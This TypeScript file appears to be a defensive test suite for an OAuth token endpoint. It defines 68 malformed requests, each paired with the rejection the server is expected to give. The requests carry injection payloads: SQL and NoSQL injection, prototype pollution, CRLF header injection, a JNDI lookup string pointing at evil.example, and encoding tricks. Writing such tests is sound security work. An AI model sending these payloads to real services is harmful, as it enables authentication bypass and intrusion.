import {
  badCredentials,
  badScope,
  badTarget,
  brokenPercent,
  notUtf8,
  otherGrant,
  repeated,
  required,
  token,
  withNul,
} from './answers';
import { alike, attack, type Chapter } from './attack';
import { encoded, post, tokenAnd, tokenForm, tokenOf } from './requests';

const grantType = (grant_type: string) => tokenOf({ grant_type });
const bytes = (...values: number[]) => Buffer.from(values);
const escaped = (text: string) =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

export const parameters: Chapter = {
  title: 'Parameters of the token endpoint',
  attacks: [
    ...alike(repeated, [
      ['P-01', '`grant_type` twice', tokenAnd('grant_type=client_credentials')],
      [
        'P-02',
        '`audience` twice, the same',
        (scene) => tokenAnd(encoded({ audience: scene.audience }))(scene),
      ],
      ['P-03', '`audience` twice, another', tokenAnd('audience=x')],
      ['P-04', '`scope` twice', tokenAnd('scope=add&scope=read')],
      ['P-05', '`client_id` twice', (scene) => tokenAnd(`client_id=${scene.cast.other.clientId}`)(scene)],
      ['P-06', '`client_secret` twice', tokenAnd('client_secret=x')],
      ['P-07', '`client_secret` twice, the second time empty', tokenAnd('client_secret=')],
      ['P-08', '`client_id` once more, its name percent-encoded', tokenAnd(`${escaped('client_id')}=x`)],
      ['P-09', 'an unknown parameter twice', tokenAnd('x=1&x=2')],
      ['P-10', '`__proto__` twice', tokenAnd('__proto__=1&__proto__=2')],
    ]),
    ...alike(token, [
      [
        'P-11',
        '`__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty` beside the rest',
        tokenAnd('__proto__=x&constructor=x&prototype=x&toString=x&hasOwnProperty=x&valueOf'),
      ],
      [
        'P-12',
        '`__proto__[client_id]`, `constructor[prototype][scope]`',
        tokenAnd('__proto__[client_id]=x&constructor[prototype][scope]=delete'),
      ],
      [
        'P-13',
        '`scope[]=delete`, `scope.0=delete`, `Scope=delete`',
        tokenAnd('scope[]=delete&scope.0=delete&Scope=delete'),
      ],
      [
        'P-14',
        'parameters of other flows',
        tokenAnd(
          'redirect_uri=https://evil.example&code=x&username=admin&password=x&refresh_token=x&subject_token=x&request=x&request_uri=https://evil.example',
        ),
      ],
      [
        'P-15',
        'lifetimes, issuers and claims that a client wishes for',
        tokenAnd('expires_in=999999&lifetime=999999&iss=evil&sub=admin&aud=evil&claims=%7B%7D&azp=evil'),
      ],
      [
        'P-16',
        '3,000 parameters',
        tokenAnd(Array.from({ length: 3000 }, (_, nth) => nth.toString(36)).join('&')),
      ],
      ['P-17', 'separators without parameters', tokenAnd('&&&&')],
      [
        'P-18',
        'every byte percent-encoded',
        (scene) =>
          post(
            Object.entries({
              grant_type: 'client_credentials',
              audience: scene.audience,
              client_id: scene.clientId,
              client_secret: scene.clientSecret,
            })
              .map(([name, value]) => `${escaped(name)}=${escaped(value)}`)
              .join('&'),
          ),
      ],
    ]),
    ...alike(badCredentials, [
      [
        'P-19',
        '`client_id[]`, as for frameworks that make arrays of it',
        (scene) => post(tokenForm(scene, { client_id: undefined, 'client_id[]': scene.clientId })),
      ],
      [
        'P-20',
        '`client_secret[$ne]=`, as for databases that take operators',
        (scene) => post(tokenForm(scene, { client_secret: undefined, 'client_secret[$ne]': '' })),
      ],
      ['P-21', '`client_id=__proto__`', tokenOf({ client_id: '__proto__' })],
      [
        'P-22',
        '`client_id=constructor`, `client_secret=constructor`',
        tokenOf({ client_id: 'constructor', client_secret: 'constructor' }),
      ],
      ['P-23', 'SQL in `client_id`', tokenOf({ client_id: "' OR '1'='1' --" })],
      ['P-24', 'SQL in `client_id` that would wait', tokenOf({ client_id: "'; SELECT pg_sleep(10); --" })],
      ['P-25', 'wildcards of LIKE in `client_id`', tokenOf({ client_id: '%' })],
      [
        'P-26',
        'line breaks in `client_id`, for whoever reads a log',
        tokenOf({ client_id: 'x\r\nSet-Cookie: a=b\r\n\r\n' }),
      ],
      ['P-27', 'a `client_id` of 12 KiB', tokenOf({ client_id: 'x'.repeat(12_000) })],
      [
        'P-28',
        'a template and a JNDI address in `client_id`',
        tokenOf({ client_id: '$'.concat('{jndi:ldap://evil.example/x}{{7*7}}') }),
      ],
      [
        'P-29',
        'letters of another script in `client_id`',
        (scene) => tokenOf({ client_id: scene.clientId.replace(/./, 'а') })(scene),
      ],
    ]),
    ...alike(withNul, [
      ['P-30', 'NUL in the body', tokenAnd('x=a\0b')],
      ['P-31', 'NUL percent-encoded in a value', tokenAnd('x=a%00b')],
      ['P-32', 'NUL percent-encoded in a name', tokenAnd('a%00b=x')],
      [
        'P-33',
        'NUL behind the right secret, where a C string would end',
        (scene) => post(`${tokenForm(scene)}%00x`),
      ],
    ]),
    ...alike(brokenPercent, [
      ['P-34', 'a percent sign alone', tokenAnd('x=%')],
      ['P-35', 'one digit', tokenAnd('x=%4')],
      ['P-36', 'no digits', tokenAnd('x=%zz')],
      ['P-37', '`%u0041`, as some servers read it', tokenAnd('x=%u0041')],
      ['P-38', 'overlong UTF-8, percent-encoded: `%c0%af`', tokenAnd('x=%c0%af')],
      ['P-39', 'NUL overlong: `%c0%80`', tokenAnd('x=%c0%80')],
      ['P-40', 'a lone surrogate: `%ed%a0%80`', tokenAnd('x=%ed%a0%80')],
      ['P-41', 'beyond Unicode: `%f5%80%80%80`', tokenAnd('x=%f5%80%80%80')],
      ['P-42', 'UTF-8 that breaks off', tokenAnd('x=%e4%bd')],
      ['P-43', 'a byte that UTF-8 never has', tokenAnd('x=%ff')],
    ]),
    ...alike(notUtf8, [
      ['P-44', 'overlong UTF-8 as bytes', tokenAnd(bytes(0x78, 0x3d, 0xc0, 0xaf))],
      ['P-45', 'a lone surrogate as bytes', tokenAnd(bytes(0x78, 0x3d, 0xed, 0xa0, 0x80))],
      ['P-46', 'Latin-1', tokenAnd(bytes(0x78, 0x3d, 0xe9))],
      [
        'P-47',
        'UTF-16 with its mark',
        (scene) => post(Buffer.concat([bytes(0xff, 0xfe), Buffer.from(tokenForm(scene), 'utf16le')])),
      ],
    ]),
    attack(
      'P-48',
      'UTF-16 without a mark',
      (scene) => post(Buffer.from(tokenForm(scene), 'utf16le')),
      withNul,
    ),
    attack(
      'P-49',
      'a byte order mark in front: the first name is another',
      (scene) => post(`\ufeff${tokenForm(scene)}`),
      required('grant_type'),
    ),
    attack(
      'P-50',
      '`;` between parameters',
      (scene) => post(tokenForm(scene).replaceAll('&', ';')),
      required('audience'),
    ),
    attack(
      'P-51',
      '`%26` and `%3d` make no parameters',
      (scene) => post(tokenForm(scene).replaceAll('&', '%26').replaceAll('=', '%3d')),
      required('audience'),
    ),
    attack(
      'P-52',
      'names in another case',
      (scene) => post(tokenForm(scene).replace('grant_type', 'Grant_Type')),
      required('grant_type'),
    ),
    attack('P-53', 'no `grant_type`', tokenOf({ grant_type: undefined }), required('grant_type')),
    attack('P-54', 'an empty `grant_type`', grantType(''), required('grant_type')),
    attack('P-55', 'no `audience`', tokenOf({ audience: undefined }), required('audience')),
    attack('P-56', 'an empty `audience`', tokenOf({ audience: '' }), required('audience')),
    ...alike(otherGrant, [
      ['P-57', '`grant_type=password`', grantType('password')],
      ['P-58', '`grant_type=refresh_token`', grantType('refresh_token')],
      ['P-59', '`grant_type=authorization_code`', grantType('authorization_code')],
      ['P-60', 'the grant of RFC 7523', grantType('urn:ietf:params:oauth:grant-type:jwt-bearer')],
      ['P-61', 'the grant of RFC 8693', grantType('urn:ietf:params:oauth:grant-type:token-exchange')],
      ['P-62', 'the right grant in upper case', grantType('CLIENT_CREDENTIALS')],
      ['P-63', 'the right grant and a space', grantType('client_credentials ')],
      ['P-64', 'two grants', grantType('client_credentials password')],
      ['P-65', '`grant_type=__proto__`', grantType('__proto__')],
    ]),
    attack('P-66', '`audience=__proto__`', tokenOf({ audience: '__proto__' }), badTarget),
    attack('P-67', '`scope=__proto__`', tokenOf({ scope: '__proto__' }), badScope),
    attack('P-68', '`%2500`: the two characters are no NUL', tokenOf({ client_id: '%00' }), badCredentials),
  ],
};
